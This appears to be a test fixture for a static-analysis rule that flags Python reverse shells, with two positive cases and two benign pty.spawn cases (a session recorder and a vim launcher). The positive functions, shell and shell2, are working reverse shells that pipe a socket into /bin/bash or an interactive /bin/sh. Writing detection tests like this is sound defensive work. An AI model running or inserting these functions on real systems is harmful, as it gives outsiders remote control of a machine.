import os
import pty
import socket


def shell(host, port):
    s = socket.socket()
    s.connect((host, port))
    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
    # ruleid: python-reverse-shell-pty-spawn
    pty.spawn("/bin/bash")


def shell2(host, port):
    s = socket.create_connection((host, port))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    # ruleid: python-reverse-shell-pty-spawn
    pty.spawn(["/bin/sh", "-i"])


def record_session(logfile):
    # A local `script`-like recorder: no socket involved.
    with open(logfile, "wb") as log:
        def read(fd):
            data = os.read(fd, 1024)
            log.write(data)
            return data
        # ok: python-reverse-shell-pty-spawn
        pty.spawn("/bin/bash", read)


def run_editor(path):
    # ok: python-reverse-shell-pty-spawn
    pty.spawn(["vim", path])
